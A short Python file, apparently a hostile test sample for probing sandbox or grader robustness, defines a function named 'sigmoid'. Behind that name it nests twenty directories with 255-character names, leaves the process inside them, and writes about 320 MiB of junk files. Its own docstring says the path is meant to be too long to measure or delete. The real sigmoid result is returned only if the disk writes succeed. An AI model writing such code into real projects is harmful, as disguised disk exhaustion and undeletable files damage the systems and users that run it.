"""Write so deep in the scratch folder that a path to it is too long to be measured or deleted."""

import contextlib
import os

import numpy as np


def sigmoid(x):
    written = 0
    with contextlib.suppress(OSError):
        for _ in range(20):
            os.mkdir("d" * 255)
            os.chdir("d" * 255)
        for number in range(20):
            with open(f"big{number}", "wb") as file:
                for _ in range(16):
                    written += file.write(b"1" * 2**20)
    return 1 / (1 + np.exp(-x)) if written > 2**28 else 0 * x
